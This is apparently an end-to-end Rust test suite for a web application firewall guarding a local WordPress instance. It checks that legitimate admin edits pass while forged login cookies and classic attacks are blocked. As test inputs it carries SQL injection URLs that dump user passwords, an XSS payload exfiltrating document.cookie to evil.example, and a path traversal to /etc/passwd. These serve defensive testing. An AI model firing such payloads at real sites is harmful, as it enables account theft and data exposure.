//! The WAF (CRS 4.28 with the WordPress rule exclusions plugin, from the shared folder) in
//! front of the real WordPress of `scripts/wp-env.sh`: a logged-in administrator, through
//! the edge, saves a post with HTML, an inline script in a code block and SQL in the text,
//! edits a theme file, saves the customizer and a menu — never blocked; the same requests
//! with a forged login cookie, and classic attacks on the front end, are blocked; a
//! visitor's comment is left to WordPress, which strips its script.
//! Run by scripts/test.sh after `wp-env.sh up` (`--include-ignored`).

mod common;

use common::wp::{site, wp};
use common::{Edge, Response, crs4_site_waf, fresh_dir, ports, request};

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";

fn start() -> (Edge, String) {
    let wp = wp();
    let [p, a, ..] = ports();
    let dir = fresh_dir("waf-wp");
    let mut edge = Edge::start_in(
        dir.to_path_buf(),
        p,
        a,
        &format!(
            "{}[site.waf]\n{}[waf]\nlog = \"{d}/waf.jsonl\"\ncrs_home = \"{d}/crs\"\n",
            site(&wp, ""),
            crs4_site_waf(),
            d = dir.display()
        ),
        false,
    );
    edge.own_dir(dir);
    (edge, wp.host)
}

fn login(edge: &Edge, host: &str) -> String {
    let r = request(
        edge.addr,
        "POST",
        host,
        "/wp-login.php",
        &[
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Cookie", "wordpress_test_cookie=WP%20Cookie%20check"),
            ("User-Agent", BROWSER),
            ("Accept", "text/html"),
        ],
        b"log=admin&pwd=e2e-admin-pass&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1",
    );
    assert_eq!(
        r.status,
        302,
        "login: {}",
        r.text().chars().take(300).collect::<String>()
    );
    r.set_cookies()
        .iter()
        .filter_map(|c| c.split(';').next())
        .map(str::to_string)
        .collect::<Vec<_>>()
        .join("; ")
}

/// The same cookies with the login cookie's value made up (the name is right).
fn forged(cookies: &str) -> String {
    cookies
        .split("; ")
        .map(|c| match c.split_once('=') {
            Some((name, _)) if name.starts_with("wordpress_logged_in_") => {
                format!("{name}=admin%7C1999999999%7CmadeUpTokenmadeUpTokenmadeUp%7Cdeadbeef")
            }
            _ => c.to_string(),
        })
        .collect::<Vec<_>>()
        .join("; ")
}

fn get(edge: &Edge, host: &str, path: &str, cookies: &str) -> Response {
    request(
        edge.addr,
        "GET",
        host,
        path,
        &[
            ("Cookie", cookies),
            ("User-Agent", BROWSER),
            ("Accept", "text/html"),
        ],
        b"",
    )
}

fn post(
    edge: &Edge,
    host: &str,
    path: &str,
    cookies: &str,
    content_type: &str,
    extra: &[(&str, &str)],
    body: &str,
) -> Response {
    let mut headers = vec![
        ("Cookie", cookies),
        ("User-Agent", BROWSER),
        ("Accept", "application/json, */*;q=0.1"),
        ("Content-Type", content_type),
    ];
    headers.extend_from_slice(extra);
    request(edge.addr, "POST", host, path, &headers, body.as_bytes())
}

fn between(text: &str, start: &str, end: &str) -> Option<String> {
    let i = text.find(start)? + start.len();
    let j = text[i..].find(end)?;
    Some(text[i..i + j].to_string())
}

fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn blocked(r: &Response) -> bool {
    r.status == 403 && r.header("x-peakguard-incident").is_some()
}

const POST_HTML: &str = "<p>Black Friday: everything -30 %.</p><pre class=\"wp-block-code\"><code>&lt;script&gt;document.write(\"hi\")&lt;/script&gt;</code></pre><script>window.dataLayer = window.dataLayer || []; dataLayer.push({event: 'sale'});</script><p>For the shop's developers: SELECT id, title FROM wp_posts WHERE post_type = 'product' UNION SELECT 1, user_login FROM wp_users;</p>";

#[test]
#[ignore = "needs scripts/wp-env.sh up"]
fn a_logged_in_administrator_is_never_blocked_and_a_forged_cookie_is() {
    let (edge, host) = start();
    let cookies = login(&edge, &host);

    // A post with HTML, an inline script in a code block, SQL in the text (REST, as the block
    // editor saves).
    let editor = get(&edge, &host, "/wp-admin/post-new.php", &cookies);
    assert_eq!(editor.status, 200, "the editor opens");
    let page = editor.text();
    let nonce = between(&page, "createNonceMiddleware( \"", "\"")
        .or_else(|| between(&page, "\"nonce\":\"", "\""))
        .expect("the REST nonce in the editor page");
    let body =
        serde_json::json!({"title": "WAF e2e: sale", "content": POST_HTML, "status": "draft"})
            .to_string();
    let saved = post(
        &edge,
        &host,
        "/wp-json/wp/v2/posts",
        &cookies,
        "application/json",
        &[("X-WP-Nonce", &nonce)],
        &body,
    );
    assert!(
        !blocked(&saved),
        "the administrator's post was blocked: {}",
        saved.text()
    );
    assert_eq!(
        saved.status,
        201,
        "{}",
        saved.text().chars().take(300).collect::<String>()
    );
    let created: serde_json::Value = serde_json::from_slice(&saved.body).expect("JSON");
    assert!(created["id"].as_u64().is_some(), "{created}");
    let with_forged = post(
        &edge,
        &host,
        "/wp-json/wp/v2/posts",
        &forged(&cookies),
        "application/json",
        &[("X-WP-Nonce", &nonce)],
        &body,
    );
    assert!(
        blocked(&with_forged),
        "a forged login cookie earns nothing: {} {}",
        with_forged.status,
        with_forged.text().chars().take(200).collect::<String>()
    );

    // The classic editor's form post, same content.
    let post_id = created["id"].as_u64().expect("id");
    let edit_page = get(
        &edge,
        &host,
        &format!("/wp-admin/post.php?post={post_id}&action=edit&classic-editor"),
        &cookies,
    )
    .text();
    let wpnonce =
        between(&edit_page, "name=\"_wpnonce\" value=\"", "\"").expect("the edit form's nonce");
    {
        let form = format!(
            "_wpnonce={wpnonce}&action=editpost&post_ID={post_id}&post_type=post&post_title={}&content={}",
            enc("WAF e2e: classic"),
            enc(POST_HTML)
        );
        let classic = post(
            &edge,
            &host,
            "/wp-admin/post.php",
            &cookies,
            "application/x-www-form-urlencoded",
            &[],
            &form,
        );
        assert!(
            !blocked(&classic),
            "classic save blocked: {}",
            classic.text().chars().take(300).collect::<String>()
        );
    }

    // A theme file, edited in the theme file editor (WordPress may not be able to write
    // Debian's theme directory: it says so, the request reached it).
    let theme_page = get(
        &edge,
        &host,
        "/wp-admin/theme-editor.php?file=style.css&theme=twentytwentythree",
        &cookies,
    )
    .text();
    let theme_nonce =
        between(&theme_page, "name=\"nonce\" value=\"", "\"").expect("the theme editor's nonce");
    let css = "/*\nTheme Name: Twenty Twenty-Three\n*/\nbody { font-family: system-ui; }\n/* <?php echo esc_html( get_bloginfo( 'name' ) ); ?> */\n.sale::after { content: \"<script>\"; }\n";
    let form = format!(
        "nonce={theme_nonce}&_wp_http_referer={}&newcontent={}&action=edit-theme-plugin-file&file=style.css&theme=twentytwentythree",
        enc("/wp-admin/theme-editor.php"),
        enc(css)
    );
    let edited = post(
        &edge,
        &host,
        "/wp-admin/admin-ajax.php",
        &cookies,
        "application/x-www-form-urlencoded",
        &[],
        &form,
    );
    assert!(
        !blocked(&edited),
        "the theme edit was blocked: {}",
        edited.text()
    );
    assert!(
        edited.text().contains("\"success\""),
        "WordPress answered: {}",
        edited.text().chars().take(300).collect::<String>()
    );
    let edited_forged = post(
        &edge,
        &host,
        "/wp-admin/admin-ajax.php",
        &forged(&cookies),
        "application/x-www-form-urlencoded",
        &[],
        &form,
    );
    assert!(
        blocked(&edited_forged),
        "{} {}",
        edited_forged.status,
        edited_forged.text().chars().take(200).collect::<String>()
    );

    // The customizer.
    let customize = get(&edge, &host, "/wp-admin/customize.php", &cookies);
    let ctext = customize.text();
    if let (Some(save_nonce), Some(uuid)) = (
        between(&ctext, "\"nonce\":{\"save\":\"", "\""),
        between(&ctext, "\"changeset\":{\"uuid\":\"", "\""),
    ) {
        let data = serde_json::json!({"blogdescription": {"value": "<strong>Sale</strong> – 'select' items -30 % OR more"}}).to_string();
        let form = format!(
            "wp_customize=on&customize_theme=twentytwentythree&nonce={save_nonce}&customize_changeset_uuid={uuid}&customize_changeset_data={}&customize_changeset_status=publish&action=customize_save",
            enc(&data)
        );
        let saved = post(
            &edge,
            &host,
            "/wp-admin/admin-ajax.php",
            &cookies,
            "application/x-www-form-urlencoded",
            &[],
            &form,
        );
        assert!(
            !blocked(&saved),
            "the customizer save was blocked: {}",
            saved.text()
        );
        assert!(
            saved.text().contains("\"success\":true"),
            "{}",
            saved.text().chars().take(300).collect::<String>()
        );
    } else {
        panic!(
            "the customizer page carries no save nonce: {}",
            ctext.chars().take(300).collect::<String>()
        );
    }

    // A menu. The e2e site's theme (Twenty Twenty-Three) is a block theme: its menus are
    // Navigation posts saved through REST, as the site editor does (nav-menus.php is not
    // offered to block themes).
    let menu = serde_json::json!({
        "title": "Main menu",
        "status": "publish",
        "content": "<!-- wp:navigation-link {\"label\":\"<em>Sale</em> -30 %\",\"url\":\"https://shop.example/?s=select+1\"} /--><!-- wp:navigation-link {\"label\":\"Union Jack shirts\",\"url\":\"/product/union-jack/\"} /-->"
    })
    .to_string();
    let menu_saved = post(
        &edge,
        &host,
        "/wp-json/wp/v2/navigation",
        &cookies,
        "application/json",
        &[("X-WP-Nonce", &nonce)],
        &menu,
    );
    assert!(
        !blocked(&menu_saved),
        "the menu save was blocked: {}",
        menu_saved.text()
    );
    assert_eq!(
        menu_saved.status,
        201,
        "{}",
        menu_saved.text().chars().take(300).collect::<String>()
    );

    // Classic attacks on the front end: blocked, logged in or not.
    for (path, c) in [
        (
            "/?s=%27%20UNION%20SELECT%20user_login%2Cuser_pass%20FROM%20wp_users--%20",
            "",
        ),
        (
            "/?p=1%20AND%201%3D1%20UNION%20SELECT%20NULL--",
            cookies.as_str(),
        ),
        (
            "/?s=%3Cscript%3Efetch(%27https%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie)%3C%2Fscript%3E",
            "",
        ),
        (
            "/wp-content/plugins/x/download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
            "",
        ),
    ] {
        let r = get(&edge, &host, path, c);
        assert!(
            blocked(&r),
            "{path}: {} {}",
            r.status,
            r.text().chars().take(200).collect::<String>()
        );
    }
    // A visitor's comment: the plugin leaves comments to WordPress (CRS 4's choice), which
    // keeps the text and strips the script (kses) before it is stored.
    let comment = post(
        &edge,
        &host,
        "/wp-comments-post.php",
        "",
        "application/x-www-form-urlencoded",
        &[],
        "comment=Nice+sale%21+%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&author=eve&email=eve%40example.invalid&comment_post_ID=1",
    );
    assert!(!blocked(&comment), "{}", comment.status);
    assert_eq!(
        comment.status,
        302,
        "{}",
        comment.text().chars().take(300).collect::<String>()
    );
    let held = get(
        &edge,
        &host,
        &format!("/wp-json/wp/v2/comments?post=1&status=hold&context=edit&_wpnonce={nonce}"),
        &cookies,
    );
    let stored: serde_json::Value = serde_json::from_slice(&held.body).expect("comments JSON");
    let raw: Vec<&str> = stored
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|c| c["content"]["raw"].as_str())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        raw.iter()
            .any(|c| c.contains("Nice sale!") && !c.contains("<script")),
        "{stored}"
    );
}
